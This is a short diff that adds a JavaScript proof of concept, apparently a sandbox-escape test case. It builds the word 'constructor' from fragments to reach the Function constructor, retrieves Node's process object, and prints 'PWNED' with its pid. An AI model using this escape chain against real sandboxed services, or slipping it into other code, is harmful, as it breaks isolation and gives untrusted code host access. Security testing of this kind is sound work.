@@ -1,0 +1,9 @@
+'use strict';
+const w = ['con', 'structor'].join('');
+const t = { go: (f) => f[w] };
+t.go({});
+const fn = (x) => x;
+const l = [];
+l.unshift(t);
+const o = Date.now() > 1 ? l.at(0) : {};
+console.log('PWNED', o.go(fn)('return process')().pid);
